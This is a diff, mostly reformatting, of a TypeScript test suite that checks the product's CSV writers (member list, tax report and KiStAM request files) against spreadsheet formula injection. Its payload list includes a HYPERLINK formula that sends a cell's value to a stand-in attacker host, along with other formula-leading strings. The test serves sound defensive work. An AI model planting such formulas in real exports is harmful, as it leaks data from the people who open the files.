@@ -16,7 +16,14 @@ import { csvField, csvLine, csvRaw, neutraliseFormula } from './csv-text.js';
  * file and the import templates. Each writer is fed hostile text in every text it takes from a user.
  */
 
-const PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1;"click")', '+49 30 1234', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+const PAYLOADS = [
+  '=HYPERLINK("https://evil.example/?"&A1;"click")',
+  '+49 30 1234',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+];
 const payload = (i: number): string => PAYLOADS[i % PAYLOADS.length]!;
 
 /** The cells of a CSV text: fields split at `separator` outside `"…"`, quotes undone, lines at CR LF outside quotes. */
@@ -77,7 +84,17 @@ describe('CSV injection: the one guard', () => {
 
 describe('CSV injection: every CSV writer of the product', () => {
   it('the member list, in both dialects', async () => {
-    const texts = ['salutation', 'title', 'name', 'givenName', 'street', 'streetHomeNumber', 'zipCode', 'city', 'country'] as const;
+    const texts = [
+      'salutation',
+      'title',
+      'name',
+      'givenName',
+      'street',
+      'streetHomeNumber',
+      'zipCode',
+      'city',
+      'country',
+    ] as const;
     const member = Object.fromEntries([
       ['memberNr', 1],
       ...texts.map((f, i) => [f, payload(i)]),
@@ -87,7 +104,9 @@ describe('CSV injection: every CSV writer of the product', () => {
       ['shareAmount', 2],
       ['shareTotalEUR', -50_000],
     ]) as unknown as MemberDto;
-    const fedIn = ['salutation', 'name', 'givenName', 'street', 'streetHomeNumber', 'zipCode', 'city'].map((f) => String((member as unknown as Record<string, string>)[f]));
+    const fedIn = ['salutation', 'name', 'givenName', 'street', 'streetHomeNumber', 'zipCode', 'city'].map((f) =>
+      String((member as unknown as Record<string, string>)[f]),
+    );
     expectGuarded((await memberCsv(batches([member]), 'excel')).toString('utf8'), ';', fedIn);
     expectGuarded((await memberCsv(batches([member]), 'rfc4180')).toString('utf8'), ',', fedIn);
   });
@@ -100,10 +119,27 @@ describe('CSV injection: every CSV writer of the product', () => {
       memberNr: 1,
       euros: 300,
       person,
-      address: { street: payload(3), houseNumber: payload(4), zipCode: payload(5), city: payload(0), country: null, foreign: false },
+      address: {
+        street: payload(3),
+        houseNumber: payload(4),
+        zipCode: payload(5),
+        city: payload(0),
+        country: null,
+        foreign: false,
+      },
       spouse: { name: payload(1), givenName: payload(3), birthDate: null, taxId: payload(4) },
     };
-    const header = { name: payload(3), address: payload(0), zip: payload(4), city: payload(5), elmaFs: payload(1), taxNumber: payload(2), reportType: 'initial' as const, year: 2025, createdAt: '2026-01-15T10:00:00.000Z' };
+    const header = {
+      name: payload(3),
+      address: payload(0),
+      zip: payload(4),
+      city: payload(5),
+      elmaFs: payload(1),
+      taxNumber: payload(2),
+      reportType: 'initial' as const,
+      year: 2025,
+      createdAt: '2026-01-15T10:00:00.000Z',
+    };
     const [file] = reportFiles(header, [record]);
     expectGuarded(file!.content, ';', PAYLOADS);
   });
@@ -127,7 +163,10 @@ describe('CSV injection: every CSV writer of the product', () => {
   });
 
   it('the KiStAM request file', () => {
-    const [file] = requestFiles([{ memberId: 'm1', memberNr: 7, taxId: payload(0), birthDate: '1970-01-31', kind: 'regular' }], '2025-08-31');
+    const [file] = requestFiles(
+      [{ memberId: 'm1', memberNr: 7, taxId: payload(0), birthDate: '1970-01-31', kind: 'regular' }],
+      '2025-08-31',
+    );
     expectGuarded(file!, ';', [payload(0)]);
   });
 
